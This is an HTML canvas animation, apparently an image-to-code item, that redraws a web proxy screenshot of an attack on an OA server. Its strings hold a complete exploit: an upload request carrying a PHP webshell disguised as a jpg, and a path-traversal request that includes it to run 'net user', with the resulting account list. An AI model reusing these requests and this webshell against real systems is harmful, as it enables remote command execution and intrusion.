
An HTML page with a canvas that plays this animation: 1161x482 px, repeating every 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Request and response</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fdfdfd; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="1161" height="482"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const W = 1161, H = 482, LOOP = 8000;
const LEFT = -2.5, RIGHT = 586.3, TOP = 72.4, ROW = 9.1, CELL = 4.1, BOLD_CELL = 4.556;
const INK = '#5a5a5a', BLUE = '#4553c6', RED = '#bf5548', PICK = '#ffc499', EDGE = '#8b929e', BAR = '#7b8da4';
const MONO = '8.2px "Noto Sans Mono CJK SC", "Noto Sans Mono", "Liberation Mono", monospace';
const UI = '"Liberation Sans", Arial, sans-serif';

// In the lines below ^ starts blue, ~ starts red and ¦ returns to black.
const COLORS = { '^': BLUE, '~': RED, '¦': INK };
const MARK = '------WebKitFormBoundarypyfBhlYB4pV8McGB';
const field = name => `${MARK}\nContent-Disposition: form-data; name="${name}`;
const upload = `POST /ispirit/im/upload.php HTTP/1.1
Host: 10.10.20.116:88
Content-Length: 658
Cache-Control: no-cache
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.132 Safari/537.36
Content-Type: multipart/form-data; boundary=${MARK.slice(2)}
Accept: */*
Accept-Encoding: gzip, deflate
Accept-Language: zh-CN,zh;q=0.9,zh-HK;q=0.8,ja;q=0.7,en;q=0.6,zh-TW;q=0.5
Cookie: ^PHPSESSID¦=~123
Connection: close

${field('^UPLOAD_MODE¦"')}

~2
${field('^P¦"')}

~123
${field('^DEST_UID¦"')}

~1
${field('ATTACHMENT"; filename="~jpg¦"')}
Content-Type: image/jpeg

~<?php
~$command=$_POST['cmd'];
~$wsh = new COM('WScript.shell');
~$exec = $wsh->exec("cmd /c ".$command);
~$stdout = $exec->StdOut();
~$stroutput = $stdout->ReadAll();
~echo $stroutput;
~?>
${MARK}--`;

const command = `POST /mac/gateway.php HTTP/1.1
Host: 10.10.20.116:88
Connection: keep-alive
Accept-Encoding: gzip, deflate
Accept: */*
User-Agent: python-requests/2.21.0
Content-Length: 71
Content-Type: application/x-www-form-urlencoded

^json¦=~{"url":"/general/../../attach/im/2003/938379153.jpg"}¦&^cmd¦=~net user`;

const uploadReply = (time, size) => `HTTP/1.1 200 OK
Server: nginx
Date: Wed, 18 Mar 2020 ${time} GMT
Content-Type: text/html; charset=gbk
Connection: close
Vary: Accept-Encoding
Set-Cookie: ^PHPSESSID¦=~123¦; path=/
Expires: Thu, 19 Nov 1981 08:52:00 GMT
Cache-Control: no-store, no-cache, must-revalidate, post-check=0, pre-check=0
Pragma: no-cache
X-Frame-Options: SAMEORIGIN
Content-Length: ${size}`;

const commandReply = `HTTP/1.1 200 OK
Server: nginx
Date: Wed, 18 Mar 2020 03:59:44 GMT
Content-Type: text/html; charset=gbk
Connection: keep-alive
Vary: Accept-Encoding
X-Frame-Options: SAMEORIGIN
Content-Length: 217`;

const users = `\\\\ 的用户帐户

${'-'.repeat(79)}
${'Administrator'.padEnd(25)}${'Guest'.padEnd(25)}kel407w
命令运行完毕，但发生一个或多个错误。`;

// Pointer stops: time, x, y
const PATH = [
  [220, 1013, 478], [870, 152, 198], [1160, 152, 198], [1630, 30, 39], [1790, 16, 26],
  [2500, 16, 26], [3000, 600, 204], [3190, 661, 198], [3420, 668, 196], [3970, 668, 196],
  [4520, 716, 196], [4660, 716, 196], [4910, 714, 195.5], [5760, 714, 195.5],
  [6470, 253, 37], [6610, 252, 36], [6860, 242, 22], [7020, 238, 16], [7320, 237, 3],
  [7480, 237, 3], [7900, 254, 169]
];
const PRESSES = [[1010, 1090], [1870, 2140], [3820, 5140], [7400, 7480]];
const between = (t, a, b) => t >= a && t < b;

function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function stroke(points, color, width = 1) {
  ctx.beginPath();
  points.forEach(([x, y]) => ctx.lineTo(x, y));
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.stroke();
}

function poly(points, color) {
  ctx.beginPath();
  points.forEach(([x, y]) => ctx.lineTo(x, y));
  ctx.closePath();
  ctx.fillStyle = color;
  ctx.fill();
}

function box(x, y, w, h, radius, from, to, border = EDGE) {
  const fill = ctx.createLinearGradient(0, y, 0, y + h);
  fill.addColorStop(0, from);
  fill.addColorStop(1, to);
  ctx.beginPath();
  ctx.roundRect(x, y, w, h, radius);
  ctx.fillStyle = fill;
  ctx.fill();
  ctx.strokeStyle = border;
  ctx.lineWidth = 0.8;
  ctx.stroke();
}

function label(text, x, y, color = '#222', size = 7.3, weight = '', align = 'center') {
  ctx.font = `${weight} ${size}px ${UI}`;
  ctx.letterSpacing = '0px';
  ctx.textAlign = align;
  ctx.fillStyle = color;
  ctx.fillText(text, x, y);
}

// Strong text keeps the thin face, only darker and on wider cells.
function mono(text, x, row, strong = false) {
  const cell = strong ? BOLD_CELL : CELL;
  ctx.font = MONO;
  ctx.textAlign = 'left';
  ctx.letterSpacing = '0px';
  const gap = cell - ctx.measureText('0').width;
  text.split('\n').forEach((line, i) => {
    let at = x;
    ctx.fillStyle = strong ? '#000' : INK;
    for (const run of line.match(/[\^~¦]|[ -\]_-}]+|[^ -~¦]+/g) || []) {
      if (COLORS[run]) { ctx.fillStyle = COLORS[run]; continue; }
      const wide = run.charCodeAt(0) > 255;
      ctx.letterSpacing = (wide ? 0 : gap) + 'px';
      ctx.fillText(run, at, TOP + (row + i) * ROW + 7.3);
      at += run.length * (wide ? 2 * CELL : cell);
    }
  });
}

function button(x, w, text, enabled, state = '') {
  const [from, to] = { over: ['#f4f7fb', '#cdd8e5'], down: ['#aab4c2', '#c9d2de'] }[state] || ['#fafbfc', '#d5d9e0'];
  box(x, 20.5, w, 14, 3, enabled ? from : '#f3f4f6', enabled ? to : '#e1e4e8', enabled ? EDGE : '#bcc1c9');
  if (text) label(text, x + w / 2, 30.2, enabled ? '#222' : '#9a9ea5');
}

function stepButton(x, sign, enabled) {
  const color = enabled ? '#4a4d52' : '#9a9ea5';
  button(x, 28, '', enabled);
  label(sign, x + 9, 31, color, 10);
  stroke([[x + 16.5, 23], [x + 16.5, 32]], '#9aa0aa', 0.8);
  poly([[x + 19, 25.5], [x + 24, 25.5], [x + 21.5, 29.5]], color);
}

function numberTabs(active) {
  for (let n = 29; n <= 40; n++) {
    const x = 209.3 + (n - 38) * 23.23, on = n === active;
    box(x, -6, 23.2, 16, 2, on ? '#b9cfe3' : '#f4f5f7', on ? '#93b4d2' : '#d8dce3');
    label(n, x + 7.8, 6.8);
    label('×', x + 18, 6.3, '#9298a1', 5.5);
  }
  box(279, -6, 13.5, 16, 2, '#f4f5f7', '#d8dce3');
  label('...', 285.5, 6.3);
  rect(0, 10, W, 2, BAR);
}

function viewTabs(x, edges, names) {
  names.forEach((name, i) => {
    const left = x + edges[i], w = edges[i + 1] - edges[i];
    box(left, 57, w, 14, [2, 2, 0, 0], i ? '#f7f8fa' : '#c3d6e8', i ? '#d9dde4' : '#9dbbd6');
    label(name, left + w / 2, 66);
  });
}

function scrollbar(x) {
  rect(x, 72, 7.5, H, '#e4e8ed');
  ctx.beginPath();
  ctx.roundRect(x + 1, 82, 5.8, 420, [5, 2, 0, 0]);
  ctx.fillStyle = '#b9ccdd';
  ctx.fill();
  ctx.strokeStyle = '#71869d';
  ctx.lineWidth = 0.8;
  ctx.stroke();
  poly([[x + 1.5, 78], [x + 5.5, 78], [x + 3.5, 74.5]], '#333a44');
  stroke([[x, 72], [x, H]], '#9aa3af', 0.8);
}

function icons() {
  ctx.save();
  ctx.translate(1131, 32);
  ctx.rotate(-Math.PI / 4);
  ctx.strokeStyle = '#555';
  ctx.lineWidth = 0.9;
  ctx.strokeRect(2.5, -1.5, 9.5, 3.2);
  poly([[-0.8, 0], [2.5, -1.5], [2.5, 1.7]], '#444');
  ctx.restore();
  ctx.beginPath();
  ctx.arc(1152, 27.3, 6.3, 0, 7);
  ctx.strokeStyle = '#444';
  ctx.lineWidth = 1;
  ctx.stroke();
  label('?', 1152, 31, '#222', 10);
}

function frame(t, second) {
  const waiting = between(t, 2100, 2500);
  const over = between(t, 1720, 2580);
  numberTabs(second ? 39 : 38);
  button(2, 32.5, 'Send', true, between(t, 1870, 2100) ? 'down' : over ? 'over' : '');
  button(39.5, 32.5, 'Cancel', waiting);
  stepButton(77, '<', !waiting);
  stepButton(110, '>', false);
  label('Target: http://10.10.20.116:88', 1124.5, 30, '#111', 7.25, 'bold', 'right');
  icons();
  label('Request', 1, 49.3, '#ea5a20', 8.9, 'bold', 'left');
  label('Response', 590, 49.3, '#ea5a20', 8.8, 'bold', 'left');
  viewTabs(0, [1, 23, 55.5, 90.5, 110.5], ['Raw', 'Params', 'Headers', 'Hex']);
  viewTabs(590, [0, 21, 55.5, 76, 107], ['Raw', 'Headers', 'Hex', 'Render']);
  rect(0, 70, 575.5, 2, BAR);
  rect(585.5, 70, 576, 2, BAR);
  rect(585, 72, 0.8, H, '#b5bac2');
  rect(579, 37, 1, H, '#c3c7cd');
  rect(578.5, 297, 2, 8, '#9aa0a8');
  scrollbar(567.5);
  scrollbar(1153.7);
}

function uploadView(t, x) {
  if (t >= 1010) rect(0, TOP + 14 * ROW, 567, ROW, '#efefef');
  mono(upload, LEFT, 0);
  if (between(t, 2100, 2500)) return;
  const later = t >= 2500;
  const start = RIGHT + 18 * BOLD_CELL;
  if (t >= 3820) {
    const end = t < 4910 ? Math.max(0, Math.round((x - start) / BOLD_CELL)) : 10;
    rect(start, TOP + 13 * ROW, end * BOLD_CELL, ROW, PICK);
    if (t < 5140 || (t - 5380 + LOOP) % 1000 < 500)
      rect(start + end * BOLD_CELL, TOP + 13 * ROW, 0.8, ROW, '#222');
  }
  mono(later ? uploadReply('04:04:03', 39) : uploadReply('03:57:38', 38), RIGHT, 0);
  mono(`+OK [vm]${later ? '2882@2003_1791740528' : '2881@2003_938379153'}|jpg|0[/vm]`, RIGHT, 13, true);
}

function commandView() {
  rect(LEFT + 63 * CELL, TOP + 9 * ROW, 8 * CELL, ROW, PICK);
  rect(586, TOP + 8 * ROW, 567.7, 8 * ROW, PICK);
  rect(586, TOP + 16 * ROW, 0.8, ROW, PICK);
  mono(command, LEFT, 0);
  mono(commandReply, RIGHT, 0);
  mono(users, RIGHT, 10, true);
}

function pointerAt(t) {
  const i = PATH.findIndex(p => p[0] > t);
  if (i < 0) return PATH[PATH.length - 1].slice(1);
  const [t0, x0, y0] = PATH[Math.max(0, i - 1)], [t1, x1, y1] = PATH[i];
  const k = t1 > t0 ? (t - t0) / (t1 - t0) : 0, e = k * k * (3 - 2 * k);
  return [x0 + (x1 - x0) * e, y0 + (y1 - y0) * e];
}

function pointer(t, x, y) {
  if (t < PATH[0][0]) return;
  if (PRESSES.some(([a, b]) => between(t, a, b))) {
    ctx.beginPath();
    ctx.arc(x + 1.5, y - 1.5, 6.8, 0, 7);
    ctx.fillStyle = 'rgba(255, 255, 0, .47)';
    ctx.fill();
  }
  if (y > 72) {
    stroke([[x, y - 3.8], [x, y + 3.8]], '#333', 0.8);
    for (const dy of [-3.8, 3.8]) stroke([[x - 1.8, y + dy], [x + 1.8, y + dy]], '#444', 0.7);
    return;
  }
  const arrow = [[0, 0], [0, 7.6], [1.8, 6], [3, 8.8], [4.2, 8.3], [3, 5.6], [5.3, 5.4]].map(([a, b]) => [x + a, y + b]);
  poly(arrow, '#fff');
  stroke([...arrow, arrow[0]], '#222', 0.7);
}

function draw(now) {
  const t = now % LOOP, second = t >= 7480, [x, y] = pointerAt(t);
  rect(0, 0, W, H, '#fdfdfd');
  frame(t, second);
  if (second) commandView(); else uploadView(t, x);
  pointer(t, x, y);
  requestAnimationFrame(draw);
}
requestAnimationFrame(draw);
</script>
</body>
</html>
```
